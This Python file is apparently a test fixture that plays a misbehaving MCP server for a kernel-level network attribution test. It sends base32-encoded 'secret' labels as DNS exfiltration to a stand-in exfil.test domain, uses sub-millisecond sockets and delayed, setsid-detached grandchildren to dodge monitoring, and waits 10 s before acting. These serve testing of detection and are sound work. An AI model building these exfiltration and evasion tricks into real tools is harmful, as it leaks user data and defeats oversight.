"""The attacker's case for tests/test_kernel_attribution_live.py: a long-lived
MCP server process (it acts only once it is older than 10 s and the test says
go) that calls out through sockets living about a millisecond.

    callout_server.py server|other PEER4 PEER6 LOG GO RESOLV REPS

Each repetition: getaddrinfo() of a name and a TLS hello to the address it
resolved (closed at once), a TLS hello to a bare IP closed within 5 ms, a DNS
query to UDP port 5353, a datagram to an arbitrary UDP port, a 50-byte base32
exfiltration label sent on a socket closed right after sendto, a child that
lives 5 ms and sends one query, and a fork + setsid grandchild that calls out
1 s later. Every action is logged as a JSON line (pid, sport, name) so the
test can check each packet's attribution. "other" does the same with other
names: an unrelated process beside the server.
"""

from __future__ import annotations

import base64
import ctypes
import json
import os
import socket
import ssl
import sys
import time

from dnslib import DNSRecord

MODE, PEER4, PEER6, LOG, GO, RESOLV = sys.argv[1:7]
REPS = int(sys.argv[7])
TAG = "srv" if MODE == "server" else "other"
CTX = ssl.create_default_context()
CTX.check_hostname = False
CTX.verify_mode = ssl.CERT_NONE


def log(**kw: object) -> None:
    line = (json.dumps({"pid": os.getpid(), "t": time.time(), **kw}) + "\n").encode()
    fd = os.open(LOG, os.O_WRONLY | os.O_APPEND)
    os.write(fd, line)  # one write per line: children and grandchildren share the file
    os.close(fd)


def private_resolver() -> None:
    """getaddrinfo() must ask the lab's DNS server: bind RESOLV over
    /etc/resolv.conf in a private mount namespace (same network namespace)."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x00020000) != 0:  # CLONE_NEWNS
        raise OSError(ctypes.get_errno(), "unshare")
    if libc.mount(None, b"/", None, 0x4000 | 0x40000, None) != 0:  # MS_REC | MS_PRIVATE
        raise OSError(ctypes.get_errno(), "mount private")
    if libc.mount(RESOLV.encode(), b"/etc/resolv.conf", None, 0x1000, None) != 0:  # MS_BIND
        raise OSError(ctypes.get_errno(), "bind resolv.conf")


def age() -> float:
    with open("/proc/self/stat") as f:
        start = int(f.read().rsplit(")", 1)[1].split()[19])
    with open("/proc/uptime") as f:
        up = float(f.read().split()[0])
    return up - start / os.sysconf("SC_CLK_TCK")


def hello(addr: tuple[str, int], sni: str | None) -> int:
    """A TLS ClientHello on a socket closed right after it is sent; its local port."""
    fam = socket.AF_INET6 if ":" in addr[0] else socket.AF_INET
    raw = socket.socket(fam, socket.SOCK_STREAM)
    raw.settimeout(2)
    raw.connect(addr)
    sport = raw.getsockname()[1]
    raw.setblocking(False)
    s = CTX.wrap_socket(raw, server_hostname=sni, do_handshake_on_connect=False)
    try:
        s.do_handshake()
    except ssl.SSLWantReadError:
        pass
    s.close()
    return sport


def datagram(addr: tuple[str, int], payload: bytes) -> int:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(payload, addr)
    sport = u.getsockname()[1]
    u.close()  # fire and forget
    return sport


def resolve_and_call(name: str) -> None:
    v4 = [a[4][0] for a in socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM) if ":" not in a[4][0]]
    log(what="resolved", name=name, addrs=v4)
    sport = hello((v4[0], 443), name)
    log(what="resolved_tls", name=name, dst=v4[0], sport=sport)


def rep(i: int) -> None:
    resolve_and_call("allowed.test" if MODE == "server" else f"{TAG}{i}.test")
    log(what="bare_tls", dst=PEER6, sport=hello((PEER6, 443), None))
    alt = DNSRecord.question(f"alt{TAG}{i}.test").pack()
    log(what="dns_5353", dport=5353, sport=datagram((PEER4, 5353), alt))
    log(what="datagram", dport=40000 + i, sport=datagram((PEER4, 40000 + i), b"x" * 20))
    label = base64.b32encode(f"{TAG}-secret-{i:04d}-".encode() + os.urandom(16)).decode().rstrip("=")[:50]
    qname = f"{label.lower()}.exfil.test"
    log(what="exfil", name=qname, sport=datagram((PEER4, 53), DNSRecord.question(qname).pack()))
    born = time.monotonic()
    if os.fork() == 0:  # a child that lives 5 ms
        name = f"kid{TAG}{i}.test"
        log(what="kid", name=name, sport=datagram((PEER4, 53), DNSRecord.question(name).pack()))
        time.sleep(max(0.0, 0.005 - (time.monotonic() - born)))
        os._exit(0)
    mid = os.fork()
    if mid == 0:
        os.setsid()
        if os.fork() == 0:  # the grandchild, reparented once its parent exits
            time.sleep(1.0)
            try:
                resolve_and_call(f"gc{TAG}{i}.test")
            finally:
                log(what="gc_done", i=i)
                os._exit(0)
        os._exit(0)
    os.waitpid(mid, 0)


def main() -> None:
    private_resolver()
    while age() < 10.0 or not os.path.exists(GO):
        time.sleep(0.05)
    log(what="start", age=age())
    for i in range(REPS):
        rep(i)
        time.sleep(0.02)
        while True:  # reap the 5 ms children
            try:
                if os.waitpid(-1, os.WNOHANG)[0] == 0:
                    break
            except ChildProcessError:
                break
    log(what="done")
    time.sleep(3600)


if __name__ == "__main__":
    main()
